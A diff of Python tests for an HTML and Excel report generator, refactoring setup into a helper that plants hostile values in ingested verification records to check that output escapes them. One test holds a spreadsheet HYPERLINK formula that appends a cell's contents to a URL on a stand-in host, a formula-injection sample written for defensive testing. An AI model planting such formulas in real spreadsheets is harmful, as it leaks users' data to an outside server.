@@ -155,18 +155,25 @@ def test_levels_in_force():
         parse_levels("1e-7")
 
 
-def test_hostile_text_is_escaped_through_the_template(tmp_path):
-    """A segment value, a title and a Baidu message that hold markup stay text."""
+def _landed_with(tmp_path, channel: str, message: str):
+    """A month of data whose Lite sessions all have ``channel`` in biz_extra_data and whose
+    Baidu attempts all answer ``message``: the data directory."""
     recs = P.records(8, n_lite=300, n_liveness=0, n_baidu=20, reference_date="2026-07-01", window_days=30)
     for rec in recs:
         if rec["source"] == "megvii_lite":
-            rec["payload"]["biz_info"]["biz_extra_data"] = json.dumps({"channel": HOSTILE})
+            rec["payload"]["biz_info"]["biz_extra_data"] = json.dumps({"channel": channel})
         if rec["source"] == "baidu_getall":
             # a token no user went through answers an error with no result (the sandbox models it)
             for a in (rec["payload"].get("result") or {}).get("verify_result", []):
-                a.update(code="222380", message=HOSTILE)
+                a.update(code="222380", message=message)
     d = tmp_path / "data"
     ingest([P.write(tmp_path / "r.jsonl", recs)], d)
+    return d
+
+
+def test_hostile_text_is_escaped_through_the_template(tmp_path):
+    """A segment value, a title and a Baidu message that hold markup stay text."""
+    d = _landed_with(tmp_path, HOSTILE, HOSTILE)
     out = write_report(d, tmp_path / "r.html", "2026-06-01", "2026-07-01", segments=["channel"],
                        title=f"Review {HOSTILE}")
     text = out.read_text(encoding="utf-8")
@@ -188,16 +195,7 @@ def test_hostile_text_in_the_workbook_and_the_figures(tmp_path):
     from openpyxl import load_workbook
 
     formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
-    tex = "time\x0cout $\\frac{1}{$"
-    recs = P.records(8, n_lite=300, n_liveness=0, n_baidu=20, reference_date="2026-07-01", window_days=30)
-    for rec in recs:
-        if rec["source"] == "megvii_lite":
-            rec["payload"]["biz_info"]["biz_extra_data"] = json.dumps({"channel": formula})
-        if rec["source"] == "baidu_getall":
-            for a in (rec["payload"].get("result") or {}).get("verify_result", []):
-                a.update(code="222380", message=tex)
-    d = tmp_path / "data"
-    ingest([P.write(tmp_path / "r.jsonl", recs)], d)
+    d = _landed_with(tmp_path, formula, "time\x0cout $\\frac{1}{$")
     book = tmp_path / "r.xlsx"
     with warnings.catch_warnings(record=True) as caught:
         warnings.simplefilter("always")
